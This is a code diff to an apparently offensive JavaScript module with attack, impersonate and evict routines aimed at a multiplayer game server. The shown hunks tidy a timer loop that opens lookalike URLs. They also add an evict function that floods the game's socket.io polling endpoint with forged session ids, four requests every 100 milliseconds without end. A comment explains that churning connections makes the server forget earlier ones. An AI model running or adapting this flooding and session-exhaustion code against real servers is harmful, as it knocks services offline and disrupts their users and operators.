@@ -49,7 +49,8 @@ self.attack = (game, here, parts, { churns = 1, names = 4, lasting = true } = {}
   };
   const from = Math.floor(Math.random() * lookalikes.length);
   const chosen = [...lookalikes, ...lookalikes].slice(from, from + Math.min(names, lookalikes.length));
-  if (parts.includes("names")) chosen.forEach((url, at) => setTimeout(() => hold(url, !lasting || at % 2 === 1), at * 150));
+  const begin = (url, at) => setTimeout(() => hold(url, !lasting || at % 2 === 1), at * 150);
+  if (parts.includes("names")) chosen.forEach(begin);
 
   // Others are opened and closed without end: whoever remembers only the newest forgets those above.
   const churn = () => {
@@ -99,4 +100,13 @@ self.impersonate = (game, here) => {
     setTimeout(() => { socket.close(); round(); }, 2000);
   };
   round();
+};
+
+// Requests to the game's own address under ever new session ids: sessions, to whoever goes by the address, and more
+// of them than anybody remembers. The game's server refuses each.
+self.evict = async (game) => {
+  const url = `http://${game}/socket.io/?EIO=4&transport=polling&sid=ffff`;
+  const request = { method: "POST", mode: "no-cors", body: "2" };
+  await Promise.all([1, 2, 3, 4].map((at) => fetch(`${url}${at}${Math.random()}`, request).catch(() => null)));
+  setTimeout(() => evict(game), 100);
 };
